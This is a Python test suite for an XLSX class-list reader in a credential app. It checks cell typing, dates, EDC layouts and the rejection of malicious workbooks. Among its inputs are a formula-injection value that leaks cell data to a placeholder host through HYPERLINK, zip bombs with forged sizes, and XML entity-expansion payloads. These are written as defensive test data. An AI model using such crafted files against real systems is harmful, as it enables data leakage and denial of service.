"""XLSX: typed cells, formulas named by cell, the EDC layout, and files made to harm."""

import io
import struct
import zipfile
from datetime import date, datetime, time

import openpyxl
import pytest

from factories.class_lists import TODAY, raw_workbook, text_cell, workbook
from skillseal.credentials.recipients import Limits, open_list, read
from skillseal.domain.credential import Learner

HEADER = ("given_name", "family_name", "birth_date", "national_id", "grade:oral")


def codes(data: bytes, limits: Limits | None = None) -> list[str]:
    return [finding.code for finding in read(data, today=TODAY, limits=limits).findings]


def test_typed_cells() -> None:
    data = workbook(
        HEADER,
        ("Անի", "Պետրոսյան", date(1998, 5, 3), 1234567890, 5),
        (),
        ("Bo", None, datetime(1999, 1, 2), "0012", 4.5),  # noqa: DTZ001 - a workbook knows no zones
        ("Cy", "", "03.02.2000", None, "A+"),
    )
    found = read(data, today=TODAY)
    assert found.findings == ()
    assert [(row.line, row.learner, dict(row.grades)) for row in found.rows] == [
        (
            2,
            Learner(given_name="Անի", family_name="Պետրոսյան", birth_date=date(1998, 5, 3), national_id="1234567890"),
            {"oral": "5"},
        ),
        (4, Learner(given_name="Bo", birth_date=date(1999, 1, 2), national_id="0012"), {"oral": "4.5"}),
        (5, Learner(given_name="Cy", birth_date=date(2000, 2, 3)), {"oral": "A+"}),
    ]


@pytest.mark.parametrize(
    ("column", "value", "code"),
    [
        (1, "=B2", "list.formula_cell"),
        (0, '=HYPERLINK("http://x?"&A1)', "list.formula_cell"),
        (2, "=TODAY()", "list.formula_cell"),
        (2, 45291, "list.date_number"),
        (2, 45291.5, "list.date_number"),
        (2, "45291", "list.date_number"),
        (2, datetime(1998, 5, 3, 22, 0), "list.date_with_time"),  # noqa: DTZ001
        (2, time(12, 0), "list.date_unreadable"),
        (2, True, "list.date_unreadable"),
        (2, date(2030, 1, 1), "list.date_future"),
        (3, 10**17, "list.number_rounded"),
        (0, 12345, "list.name_without_letter"),
        (0, "-Ani", "list.name_formula"),
    ],
)
def test_a_wrong_cell_is_named(column: int, value: object, code: str) -> None:
    row: list[object] = ["Ani", "Petrosyan", date(1998, 5, 3), "1", "5"]
    row[column] = value
    found = read(workbook(HEADER, ("Bo", "Li", None, None, "5"), row), today=TODAY)
    assert found.rows == ()
    assert [
        (finding.code, finding.params["line"], finding.params["column"], finding.params["cell"])
        for finding in found.findings
    ] == [(code, 3, HEADER[column], f"{'ABCDE'[column]}3")]


def test_the_error_of_a_formula_is_named() -> None:
    cell = '<c r="A2" t="e"><v>#N/A</v></c>'
    assert codes(raw_workbook(f'<row r="1">{text_cell("A1", "name")}</row><row r="2">{cell}</row>')) == [
        "list.cell_error"
    ]


def test_hidden_sheets_are_not_read() -> None:
    data = workbook(("name",), ("Ani",), hidden=[("name",), ("Nobody",)])
    assert [row.learner.full_name for row in read(data, today=TODAY).rows] == ["Ani"]


def test_more_sheets_are_said() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(("name",), ("Ani",))))
    book.create_sheet("Other").append(["name"])
    stream = io.BytesIO()
    book.save(stream)
    found = read(stream.getvalue(), today=TODAY)
    assert [row.learner.full_name for row in found.rows] == ["Ani"]
    assert [finding.code for finding in found.findings] == ["list.more_sheets"]


def test_the_edc_workbook() -> None:
    data = workbook(
        (
            "{#c1}.REC.givenName",
            "{#c1}.REC.familyName",
            "{#c1}.REC.emailAddress",
            "{#c1}.REC.dateOfBirth",
            "{#c1}.REC.gender",
            "{#oral}.ASM.grade",
            "{#act}.ACT.include",
        ),
        ("field",) * 6 + ("relation",),
        ("Given name", "Family name", "E-mail", "Date of birth", "Gender", "Grade", "Workshop"),
        ("mandatory", "mandatory", "mandatory", "optional", "controlled list", "mandatory", "Y"),
        ("Անի", "Պետրոսյան", "ani@example.org", date(1998, 5, 3), "http://example.org/f", "5", "Y"),
        ("Bo", "Li", "bo@example.org", None, None, "4", None),
    )
    found = read(data, today=TODAY)
    assert found.findings == ()
    assert [(row.line, row.learner.display_name, row.learner.email, dict(row.grades)) for row in found.rows] == [
        (5, "Անի Պետրոսյան", "ani@example.org", {"oral": "5"}),
        (6, "Bo Li", "bo@example.org", {"oral": "4"}),
    ]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (workbook(), "list.empty"),
        (workbook(("name",)), "list.no_rows"),
        (workbook(("email",), ("ani@example.org",)), "list.no_name_column"),
        (b"PK\x03\x04" + b"x" * 100, "list.workbook_unreadable"),
        (workbook(("name",), ("Ani",))[:-200], "list.workbook_unreadable"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "list.other_format"),
        (b"%PDF-1.7\n", "list.other_format"),
        (raw_workbook("<row r='1'><c r='A1'>"), "list.workbook_unreadable"),
        (raw_workbook("", before='<!DOCTYPE x [<!ENTITY a "lol">]>'), "list.workbook_entities"),
        (raw_workbook("", extra={"xl/more.xml": "<!DOCTYPE x>".encode("utf-16")}), "list.workbook_entities"),
    ],
)
def test_what_is_no_list(data: bytes, code: str) -> None:
    found = read(data, today=TODAY)
    assert [finding.code for finding in found.findings] == [code]
    assert found.rows == ()


def test_a_zip_that_is_no_workbook() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    assert codes(stream.getvalue()) == ["list.other_format"]


def test_a_bomb_is_measured_before_it_is_opened() -> None:
    data = raw_workbook("", extra={"xl/sharedStrings.xml": b"<sst>" + b" " * 30_000_000 + b"</sst>"})
    assert len(data) < 100_000
    assert codes(data, Limits(inflated=20_000_000)) == ["list.workbook_too_large"]


def test_a_bomb_that_lies_about_its_size() -> None:
    name = b"xl/sharedStrings.xml"
    data = bytearray(raw_workbook("", extra={name.decode(): b" " * 30_000_000}))
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    struct.pack_into("<L", data, entry + 24, 100)  # the size in the central directory
    assert codes(bytes(data), Limits(inflated=20_000_000)) == ["list.workbook_packed"]
    assert codes(bytes(data), Limits(inflated=900_000)) == ["list.workbook_too_large"]
    data = bytearray(raw_workbook("", extra={name.decode(): b"<sst/>"}))
    struct.pack_into("<L", data, data.rindex(b"PK\x01\x02", 0, data.rindex(name)) + 24, 5)
    assert codes(bytes(data)) == ["list.workbook_unreadable"]


@pytest.mark.parametrize(
    ("cells", "code"),
    [
        (f'<row r="2">{text_cell("XFD2", "far right")}</row>', "list.too_many_columns"),
        (f'<row r="1048576">{text_cell("XFD1048576", "far away")}</row>', "list.too_many_columns"),
        (f'<row r="2">{text_cell("A2", "x" * 30_000)}</row>', "list.cell_too_long"),
    ],
)
def test_one_far_cell_does_not_fill_the_memory(cells: str, code: str) -> None:
    assert codes(raw_workbook(f'<row r="1">{text_cell("A1", "name")}</row>{cells}')) == [code]


def test_rows_beyond_the_limit() -> None:
    data = workbook(("name",), *[(f"Ani {chr(65 + n)}",) for n in range(11)])
    found = open_list(data, today=TODAY, limits=Limits(rows=10))
    assert [(finding.code, finding.params["line"]) for finding in found.findings] == [("list.too_many_rows", 12)]
    assert list(found.rows()) == []


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def with_texts(cells: str, *texts: str) -> bytes:
    strings = "".join(f"<si>{text}</si>" for text in texts)
    return raw_workbook(
        f'<row r="1">{text_cell("A1", "name")}{text_cell("B1", "birth_date")}</row>{cells}',
        relations={"sharedStrings": "/xl/sharedStrings.xml", "styles": "styles.xml"},
        extra={
            "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{strings}</sst>'.encode(),
            "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="170" formatCode="dd\\.mm\\.yyyy"/>'
            '</numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="170"/>'
            '<xf numFmtId="14"/><xf numFmtId="46"/></cellXfs></styleSheet>'.encode(),
        },
    )


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("<t>Ani</t>", "Ani"),
        ("<r><rPr><b/></rPr><t>Ani </t></r><r><t>Petrosyan</t></r>", "Ani Petrosyan"),
        ("<t>花子</t><rPh sb='0' eb='2'><t>ハナコ</t></rPh><phoneticPr fontId='1'/>", "花子"),
        ("<t>Ani_x000D__x000A_Petrosyan</t>", "Ani Petrosyan"),
        ("<t>Ani_x005F_x000D_</t>", "Ani_x000D_"),
        ("<t>Ani &amp; Bo</t>", "Ani & Bo"),
    ],
)
def test_texts_of_cells(text: str, name: str) -> None:
    data = with_texts('<row r="2"><c r="A2" t="s"><v>1</v></c></row>', "<t>other</t>", text)
    assert [row.learner.full_name for row in read(data, today=TODAY).rows] == [name]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('<c s="1"><v>35918</v></c>', date(1998, 5, 3)),
        ('<c s="2"><v>35918.0</v></c>', date(1998, 5, 3)),
        ('<c t="d"><v>1998-05-03T00:00:00</v></c>', date(1998, 5, 3)),
        ('<c t="str"><v>1998-05-03</v></c>', date(1998, 5, 3)),
        ('<c s="0"><v>35918</v></c>', "list.date_number"),
        ('<c s="1"><v>99999999999</v></c>', "list.cell_error"),
        ('<c s="3"><v>1.5</v></c>', "list.date_unreadable"),
        ("<c t='s'><v>7</v></c>", "list.workbook_unreadable"),
        ("<c t='s'><v>-1</v></c>", "list.workbook_unreadable"),
        ("<c><v>x</v></c>", "list.workbook_unreadable"),
        ('<c s="x"><v>1</v></c>', "list.workbook_unreadable"),
        ('<c r="XFE2"><v>1</v></c>', "list.workbook_unreadable"),
        ("<c><v>" + "9" * 5_000 + "</v></c>", "list.workbook_unreadable"),
    ],
)
def test_a_date_as_a_workbook_stores_it(cell: str, expected: object) -> None:
    found = read(with_texts(f'<row r="2"><c r="A2" t="s"><v>0</v></c>{cell}</row>', "<t>Ani</t>"), today=TODAY)
    said = [finding.code for finding in found.findings] or [row.learner.birth_date for row in found.rows]
    assert said == [expected]


def test_dates_that_count_from_1904() -> None:
    book = openpyxl.Workbook()
    book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    book.active.append(["name", "birth_date"])
    book.active.append(["Ani", date(1998, 5, 3)])
    stream = io.BytesIO()
    book.save(stream)
    assert [row.learner.birth_date for row in read(stream.getvalue(), today=TODAY).rows] == [date(1998, 5, 3)]


def test_rows_of_one_number_are_all_read() -> None:
    rows = "".join(f'<row r="2">{text_cell("A2", name)}</row>' for name in ("Ani", "Bo")) + "<row><c/></row>"
    found = read(raw_workbook(f'<row r="1">{text_cell("A1", "name")}</row>{rows}'), today=TODAY)
    assert [(row.line, row.learner.full_name) for row in found.rows] == [(2, "Ani"), (3, "Bo")]


@pytest.mark.parametrize("encoding", ["utf-16", "cp037"])
def test_another_encoding_hides_nothing(encoding: str) -> None:
    text = f'<sst xmlns="{MAIN}"><si><t>Ani</t></si></sst>'
    data = raw_workbook(
        f'<row r="1">{text_cell("A1", "name")}</row><row r="2"><c t="s"><v>0</v></c></row>',
        relations={"sharedStrings": "strings.bin"},
        extra={"xl/strings.bin": f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + text.encode(encoding)},
    )
    assert codes(data) == ["list.workbook_unreadable"]


def test_entities_in_a_part_of_another_name() -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "lol">]><sst><si><t>&a;</t></si></sst>'
    data = raw_workbook("", relations={"sharedStrings": "strings.bin"}, extra={"xl/strings.bin": bomb})
    assert codes(data) == ["list.workbook_entities"]
